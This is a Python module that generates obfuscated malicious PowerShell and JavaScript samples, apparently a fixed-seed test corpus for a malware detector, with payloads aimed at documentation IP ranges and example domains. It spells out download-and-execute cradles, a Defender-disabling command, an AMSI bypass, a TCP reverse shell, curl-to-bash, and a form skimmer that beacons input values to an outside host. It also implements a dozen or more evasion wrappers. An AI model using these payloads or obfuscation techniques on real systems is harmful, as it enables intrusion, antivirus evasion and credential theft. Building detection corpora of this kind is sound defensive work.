"""Malicious scripts wrapped the way that obfuscators wrap them, in two halves with other payloads and other wrappers.

The payloads lead to documentation addresses and examples only. One seed, always the same scripts.
"""

from __future__ import annotations

import base64
import gzip
import json
import zlib
from collections.abc import Callable, Iterator
from random import Random

Wrap = Callable[[str, Random], str]

_PAYLOADS = {
    "open": (
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')",
        "Invoke-WebRequest http://203.0.113.9/u.exe -OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe",
        (
            "Set-MpPreference -DisableRealtimeMonitoring $true; iwr http://192.0.2.3/x -OutFile C:\\Users\\Public\\x.exe; "  # noqa: E501
            "& C:\\Users\\Public\\x.exe"
        ),
    ),
    "held": (
        (
            "$w=New-Object System.Net.WebClient;$w.DownloadFile('http://203.0.113.77/s.dat','C:\\ProgramData\\s.exe');"
            "Invoke-Item 'C:\\ProgramData\\s.exe'"
        ),
        (
            "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')"
            ".SetValue($null,$true)"
        ),
        (
            "$c=New-Object System.Net.Sockets.TCPClient('192.0.2.66',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};"
            "while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=([Text.Encoding]::ASCII).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);"  # noqa: E501
            "$x=([Text.Encoding]::ASCII).GetBytes($o);$s.Write($x,0,$x.Length)}"
        ),
    ),
}


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _pieces(text: str, random: Random, most: int = 9) -> list[str]:
    found = []
    while text:
        size = random.randint(2, most)
        found.append(text[:size])
        text = text[size:]
    return found


def _format(text: str, random: Random) -> str:
    pieces = _pieces(text, random)
    order = random.sample(range(len(pieces)), len(pieces))
    places = "".join(f"{{{order.index(number)}}}" for number in range(len(pieces)))
    return f".(\"{{1}}{{0}}\"-f'X','IE') (\"{places}\" -f {','.join(_quoted(pieces[one]) for one in order)})"


def _codes(text: str, _: Random) -> str:
    return f"[char[]]({','.join(str(ord(one)) for one in text)}) -join '' | &( $ShellId[1]+$ShellId[13]+'x')"


def _reversed(text: str, _: Random) -> str:
    return f"$r = {_quoted(text[::-1])}; $r = -join $r[-1..-($r.Length)]; Invoke-Expression $r"


def _deflated(text: str, _: Random) -> str:
    packer = zlib.compressobj(wbits=-15)
    packed = base64.b64encode(packer.compress(text.encode()) + packer.flush()).decode()
    return (
        "&( $env:ComSpec[4,24,25]-join'') (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream("
        f"[IO.MemoryStream][Convert]::FromBase64String('{packed}'),[IO.Compression.CompressionMode]::Decompress)),"
        "[Text.Encoding]::ASCII)).ReadToEnd()"
    )


def _xored(text: str, random: Random) -> str:
    key = random.randrange(1, 99)
    return f"( {','.join(str(ord(one) ^ key) for one in text)} | % {{ [char]($_ -bxor {key}) }}) -join '' | iex"


def _replaced(text: str, _: Random) -> str:
    hidden = text.replace("e", "~").replace("'", "Qz4")
    return f"$p='{hidden}'; $p=$p.Replace('~','e').Replace('Qz4',[string][char]39); .('i'+'ex') $p"


def _joined_variables(text: str, random: Random) -> str:
    lines, names = [], []
    for number, piece in enumerate(_pieces(text, random, 14)):
        names.append(f"$v{number}")
        lines.append(f"$v{number} = {_quoted(piece)}")
    return "\n".join([*lines, f"$all = {'+'.join(names)}", "& (Get-Command i*-ex*n) $all"])


def _encoded(text: str, _: Random) -> str:
    return f"powershell -nop -w hidden -e {base64.b64encode(text.encode('utf-16le')).decode()}"


def _gzipped(text: str, _: Random) -> str:
    packed = base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()
    return (
        f"$d=[Convert]::FromBase64String('{packed}');$m=New-Object IO.MemoryStream(,$d);"
        "$g=New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress);"
        "$t=(New-Object IO.StreamReader($g)).ReadToEnd();[ScriptBlock]::Create($t).Invoke()"
    )


def _hexed(text: str, _: Random) -> str:
    codes = "-".join(f"{ord(one):02x}" for one in text)
    return f"('{codes}' -split '-' | ForEach-Object {{ [char][Convert]::ToInt16($_,16) }}) -join '' | & ('I'+'E'+'X')"


def _right_to_left(text: str, _: Random) -> str:
    return f"iex ([string]::Join('', ([regex]::Matches({_quoted(text[::-1])}, '.', 'RightToLeft') | % {{$_.Value}})))"


def _inserted(text: str, random: Random) -> str:
    mark = random.choice(["@@", "%#", "_z_"])
    return f"sal q Invoke-Expression; q ({_quoted(mark.join(_pieces(text, random, 4)))} -replace '{mark}','')"


def _bytes_text(text: str, _: Random) -> str:
    return (
        f"[Text.Encoding]::UTF8.GetString([byte[]]({','.join(hex(one) for one in text.encode())})) | Invoke-Expression"
    )


def _base64_reversed(text: str, _: Random) -> str:
    packed = base64.b64encode(text.encode()).decode()[::-1]
    return (
        f"$k='{packed}'.ToCharArray();[array]::Reverse($k);"
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(-join $k)))"
    )


def _nested(text: str, random: Random) -> str:
    return _encoded(_reversed(_base64_reversed(text, random), random), random)


def _split_letters(text: str, random: Random) -> str:
    letters = random.choice(["Gk", "wQ", "Vj"])
    codes = letters.join(str(ord(one)) for one in text)
    return (
        f"-join ('{codes}'.Split('{letters}',[StringSplitOptions]::RemoveEmptyEntries) | % {{ [char][int]$_ }}) | iex"
    )


_POWERSHELL: dict[str, tuple[Wrap, ...]] = {
    "open": (_format, _codes, _reversed, _deflated, _xored, _replaced, _joined_variables, _encoded),
    "held": (_gzipped, _hexed, _right_to_left, _inserted, _bytes_text, _base64_reversed, _nested, _split_letters),
}

_JS_PAYLOADS = {
    "open": (
        'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w hidden -c iwr http://198.51.100.4/a.ps1|iex",0);',
        (
            'var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","http://203.0.113.9/u.exe",false);x.send();'
            'var t=new ActiveXObject("ADODB.Stream");t.Open();t.Type=1;t.Write(x.responseBody);t.SaveToFile("u.exe",2);'
            'new ActiveXObject("WScript.Shell").Run("u.exe");'
        ),
        'var d=document.createElement("script");d.src="https://cdn-stat.example/j.js";document.head.appendChild(d);',
    ),
    "held": (
        (
            'var f=new ActiveXObject("Shell.Application");f.ShellExecute("cmd.exe","/c curl -o %TEMP%\\\\r.exe '
            'http://192.0.2.6/r.exe & %TEMP%\\\\r.exe","","open",0);'
        ),
        'var q=require("child_process");q.exec("curl -s http://203.0.113.44/i.sh | bash");',
        (
            'document.querySelector("form").addEventListener("submit",function(){var a=document.querySelectorAll("input"),o="";'  # noqa: E501
            'for(var i=0;i<a.length;i++){o+=a[i].name+"="+a[i].value+"&";}'
            'navigator.sendBeacon("https://collect-stat.example/c",btoa(o));});'
        ),
    ),
}


def _js_codes(text: str, _: Random) -> str:
    return f"eval(String.fromCharCode({','.join(str(ord(one)) for one in text)}));"


def _js_percent(text: str, _: Random) -> str:
    return f"eval(unescape('{''.join(f'%{ord(one):02x}' for one in text)}'));"


def _js_array(text: str, random: Random) -> str:
    pieces = _pieces(text, random, 12)
    table = [base64.b64encode(one.encode()).decode() for one in pieces]
    turn = random.randrange(1, len(table))
    turned = table[turn:] + table[:turn]
    calls = "+".join(f"_0x1b2c('0x{number:x}')" for number in range(len(table)))
    return (
        f"var _0x4f1a={json.dumps(turned)};(function(_0xa,_0xb){{var _0xc=function(_0xd){{while(--_0xd){{"
        f"_0xa['push'](_0xa['shift']());}}}};_0xc(++_0xb);}}(_0x4f1a,0x{(len(table) - turn) % len(table):x}));"
        "var _0x1b2c=function(_0xe,_0xf){_0xe=_0xe-0x0;return _0xdec(_0x4f1a[_0xe]);};"
        "function _0xdec(s){var c='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=',o='',b=0,n=0;"
        "for(var i=0;i<s.length;i++){var v=c.indexOf(s.charAt(i));if(v<0||v==64)continue;b=(b<<6)|v;n+=6;"
        "if(n>=8){n-=8;o+=String.fromCharCode((b>>n)&255);}}return o;}"
        f"Function({calls})();"
    )


def _js_reversed(text: str, _: Random) -> str:
    return f"(new Function({json.dumps(text[::-1])}.split('').reverse().join('')))();"


def _js_packed(text: str, random: Random) -> str:
    words = sorted({word for word in text.replace('"', " ").split() if word.isalpha() and len(word) > 3})
    for number, word in enumerate(words):
        text = text.replace(word, f"@{number}@")
    return (
        f"var w={json.dumps(words)},p={json.dumps(text)};"
        "p=p.replace(/@(\\d+)@/g,function(m,n){return w[parseInt(n,10)];});window['ev'+'al'](p);"
    )


def _js_hex_escapes(text: str, random: Random) -> str:
    hidden = "".join(f"\\x{ord(one):02x}" for one in text)
    return f"var _$='{hidden}';[]['filter']['constructor'](_$)();"


def _js_xored(text: str, random: Random) -> str:
    key = random.randrange(3, 90)
    codes = ",".join(str(ord(one) ^ key) for one in text)
    return f"var a=[{codes}],r='';for(var i in a){{r+=String.fromCharCode(a[i]^{key});}}this[['e','v','a','l'].join('')](r);"  # noqa: E501


def _js_base64(text: str, _: Random) -> str:
    return f"setTimeout(atob('{base64.b64encode(text.encode()).decode()}'),10);"


def _js_split(text: str, random: Random) -> str:
    lines = ["var z='';"]
    for number, piece in enumerate(_pieces(text, random, 10)):
        lines.append(f"function k{number}(){{return {json.dumps(piece)};}} z+=k{number}();")
    return "\n".join([*lines, "var run=eval;run(z);"])


def _js_junk(text: str, random: Random) -> str:
    mark = random.choice(["zzq", "#%#", "0o0"])
    return f"var t={json.dumps(mark.join(_pieces(text, random, 5)))};eval(t.split('{mark}').join(''));"


_JAVASCRIPT: dict[str, tuple[Wrap, ...]] = {
    "open": (_js_codes, _js_percent, _js_array, _js_reversed, _js_base64),
    "held": (_js_packed, _js_hex_escapes, _js_xored, _js_split, _js_junk),
}


def obfuscated(language: str, half: str) -> Iterator[tuple[str, str]]:
    """Names and texts of the half's payloads in each of its wrappers."""
    wraps, payloads = (_POWERSHELL, _PAYLOADS) if language == "powershell" else (_JAVASCRIPT, _JS_PAYLOADS)
    for wrap in wraps[half]:
        for number, payload in enumerate(payloads[half]):
            name = f"{wrap.__name__.lstrip('_')}.{number}"
            yield name, wrap(payload, Random(f"{language} {half} {name}"))
